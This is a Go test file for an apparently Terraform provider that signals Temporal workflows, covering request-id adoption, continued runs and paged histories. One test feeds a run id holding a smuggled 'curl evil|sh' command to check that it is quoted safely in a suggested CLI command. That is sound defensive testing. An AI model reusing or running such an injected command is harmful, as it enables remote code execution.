package temporal_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/terraform-provider-signal/terraform-provider-signal/internal/acctest"
	"github.com/terraform-provider-signal/terraform-provider-signal/internal/sandbox"
)

// clock is the sandbox's time, moved on by the reads that a test makes of a workflow.
type clock struct{ offset atomic.Int64 }

func (c *clock) now() time.Time { return time.Now().Add(time.Duration(c.offset.Load())) }

func (c *clock) tick() { c.offset.Add(int64(15 * time.Second)) }

func TestAdoptsByRequestID(t *testing.T) {
	t.Parallel()
	s := acctest.Sandbox(t, sandbox.Options{})
	p := acctest.StartProvider(t, acctest.Block(s.URL()))
	config := acctest.Values{"workflow_id": startWorkflow(s), "signal_name": "go", "request_id": "release-7", "adopt_existing": true}
	for _, delivery := range []string{"SENT", "ADOPTED"} {
		r := p.Resource("signal_temporal_workflow")
		apply(t, r, config)
		if r.String("delivery") != delivery || r.String("request_id") != "release-7" || r.String("run_id") == "" {
			t.Errorf("delivery %q, want %s, the state is %s", r.String("delivery"), delivery, r.State)
		}
	}
	if n := len(s.TemporalSignals(config["workflow_id"].(string))); n != 1 {
		t.Errorf("the history has %d signals", n)
	}
}

func TestContinuedAsNewIsFollowed(t *testing.T) {
	t.Parallel()
	c := &clock{}
	s := acctest.Sandbox(t, sandbox.Options{Now: c.now})
	s.Hook("Temporal.DescribeWorkflowExecution", c.tick, nil)
	p := acctest.StartProvider(t, acctest.Block(s.URL()))
	id := "w-" + uuid.NewString()
	s.StartTemporalWorkflow(sandbox.TemporalWorkflow{WorkflowID: id, Closes: map[string]string{"go": "CONTINUED_AS_NEW"}})
	r := p.Resource("signal_temporal_workflow")
	diags := r.Apply(acctest.Values{"workflow_id": id, "signal_name": "go", "wait_for_completion": true, "timeouts": acctest.Values{"create": "2s"}})
	says(t, diags, true, "RUNNING")
	if r.String("delivery") != "SENT" || s.TemporalStatus(id) != "RUNNING" {
		t.Errorf("delivery %q, the workflow is %s", r.String("delivery"), s.TemporalStatus(id))
	}
}

// Runs that continue each other in a circle are read with pauses, like any other run.
func TestCircleOfContinuedRuns(t *testing.T) {
	a, b, c, same := uuid.NewString(), uuid.NewString(), uuid.NewString(), uuid.NewString()
	next := map[string]string{a: b, b: c, c: b, same: same}
	for name, first := range map[string]string{"before it": a, "in it": b, "one run": same} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var reads atomic.Int64
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				run, status := r.URL.Query().Get("execution.runId"), "CONTINUED_AS_NEW"
				if strings.HasSuffix(r.URL.Path, "history-reverse") {
					_, _ = fmt.Fprintf(w, `{"history":{"events":[{"eventId":"9","workflowExecutionContinuedAsNewEventAttributes":{"newExecutionRunId":%q}}]}}`, next[run])
					return
				}
				if reads.Add(1) > 1000 {
					status = "COMPLETED" // Otherwise a test of reads without a pause would not end.
				}
				_, _ = fmt.Fprintf(w, `{"workflowExecutionInfo":{"execution":{"workflowId":"w","runId":%q},"status":"WORKFLOW_EXECUTION_STATUS_%s"}}`, run, status)
			}))
			t.Cleanup(server.Close)
			r := acctest.StartProvider(t, acctest.Values{"temporal": acctest.Values{"address": server.URL}}).Resource(waitType)
			says(t, r.Apply(acctest.Values{"workflow_id": "w", "run_id": first, "timeouts": acctest.Values{"create": "200ms"}}), true,
				"Target Not Seen", "names a run that was read already")
		})
	}
}

// The text of a request id names no other read: the search for the run that took the signal
// and the search for the run that is current do not share their reads.
func TestRequestIDNamesNoOtherRead(t *testing.T) {
	t.Parallel()
	s := acctest.Sandbox(t, sandbox.Options{})
	p := acctest.StartProvider(t, acctest.Block(s.URL()))
	id := "w-" + uuid.NewString()
	s.StartTemporalWorkflow(sandbox.TemporalWorkflow{WorkflowID: id, Closes: map[string]string{"go": "TERMINATED"}})
	r, config := p.Resource("signal_temporal_workflow"), acctest.Values{"workflow_id": id, "signal_name": "go", "request_id": "running"}
	apply(t, r, config)
	read := make(chan struct{})
	s.Hook("Temporal.DescribeWorkflowExecution", nil, sync.OnceFunc(func() { close(read) }))
	searched := make(chan acctest.Diagnostics)
	go func() {
		searched <- p.Resource("signal_temporal_workflow").Apply(acctest.Values{"workflow_id": id, "signal_name": "go", "wait_until_ready": true})
	}()
	<-read
	says(t, r.Apply(config.With(acctest.Values{"wait_for_completion": true})), true, "Target Did Not Succeed", "TERMINATED")
	if s.Count("Temporal.GetWorkflowExecutionHistoryReverse") == 0 {
		t.Errorf("the state is %s after %v", r.State, s.RequestLog())
	}
	p.Stop()
	says(t, <-searched, true, "Signal Not Sent")
	if s.Count(send) != 1 {
		t.Errorf("%d signals were sent", s.Count(send))
	}
}

// A run id comes from the server, which may be the wrong one. In a command that an error
// suggests, it is quoted like all other texts.
func TestRunIDIsQuotedInCommands(t *testing.T) {
	t.Parallel()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case r.Method == http.MethodPost:
			_, _ = w.Write([]byte(`{}`))
		case r.URL.Query().Has("execution.runId"):
			w.WriteHeader(http.StatusNotFound)
			_, _ = w.Write([]byte(`{"code":5,"message":"workflow execution not found","details":[]}`))
		default:
			_, _ = w.Write([]byte(`{"workflowExecutionInfo":{"execution":{"workflowId":"w","runId":"x;curl evil|sh"},"status":"WORKFLOW_EXECUTION_STATUS_RUNNING","startTime":"2026-01-01T00:00:00Z"}}`))
		}
	}))
	t.Cleanup(server.Close)
	r := acctest.StartProvider(t, acctest.Values{"temporal": acctest.Values{"address": server.URL}}).Resource("signal_temporal_workflow")
	says(t, r.Apply(acctest.Values{"workflow_id": "w", "signal_name": "go", "wait_for_completion": true}), true,
		"Target Cannot Be Read", `"temporal workflow describe --namespace default --workflow-id w --run-id 'x;curl evil|sh'"`)
}

// A page of events with large inputs may be longer than an answer that the provider reads.
// It asks for that page again, with fewer events on it.
func TestPagesOfLargeEventsAreRead(t *testing.T) {
	t.Parallel()
	s := acctest.Sandbox(t, sandbox.Options{})
	p := acctest.StartProvider(t, acctest.Block(s.URL()))
	upstream, err := acctest.TemporalURL()
	must(t, err)
	id := "w-" + uuid.NewString()
	post := func(at, body string) {
		t.Helper()
		resp, err := http.Post(upstream+"/api/v1/namespaces/default/workflows/"+id+at, "application/json", strings.NewReader(body))
		must(t, err)
		answer, err := io.ReadAll(resp.Body)
		must(t, err)
		_ = resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %s", resp.Status, answer)
		}
	}
	// No worker has this queue: the server holds back the signals that come while a worker is
	// at a task, and refuses those that are too long for that.
	post("", `{"workflowType": {"name": "Gate"}, "taskQueue": {"name": "without a worker"}, "requestId": "start"}`)
	config := acctest.Values{"workflow_id": id, "signal_name": "go", "request_id": "release-1", "adopt_existing": true}
	apply(t, p.Resource("signal_temporal_workflow"), config)
	// The first page has only small events.
	for i, size := range append(slices.Repeat([]int{2<<20 - 100}, 9), make([]int, 110)...) {
		post("/signal/go", fmt.Sprintf(`{"requestId":"other-%d","input":[%q]}`, i, strings.Repeat("x", size)))
	}
	s.ResetRequestLog()
	r := p.Resource("signal_temporal_workflow")
	apply(t, r, config)
	var sizes []string
	for _, request := range s.RequestLog() {
		if query, _ := url.ParseQuery(request.Query); query.Has("maximumPageSize") {
			sizes = append(sizes, query.Get("maximumPageSize"))
		}
	}
	if r.String("delivery") != "ADOPTED" || s.Count(send) != 0 || len(sizes) < 3 || !slices.Equal(sizes[:3], []string{"100", "100", "25"}) {
		t.Errorf("after pages of %v events the state is %s", sizes, r.State)
	}
}
